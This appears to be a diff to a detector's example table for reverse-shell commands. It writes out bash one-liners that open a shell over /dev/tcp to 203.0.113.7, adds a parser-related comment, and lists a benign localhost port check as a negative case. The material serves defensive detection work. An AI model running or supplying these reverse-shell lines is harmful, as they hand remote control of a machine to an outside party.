@@ -179,7 +179,8 @@ EXAMPLES: dict[str, tuple[list[Example], list[Example]]] = {
     "tunnel-reverse-shell-devtcp": (
         [
             "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
-            "0<&196;exec 196<>/dev/tcp/203.0.113.7/4242; sh <&196 >&196 2>&196",
+            # (the corral shell cannot parse ``196<>file``: such a line is refused live)
+            "exec 196</dev/tcp/203.0.113.7/4242; sh <&196 >&196 2>&196",
         ],
         ["timeout 1 bash -c '</dev/tcp/localhost/5432'"],
     ),
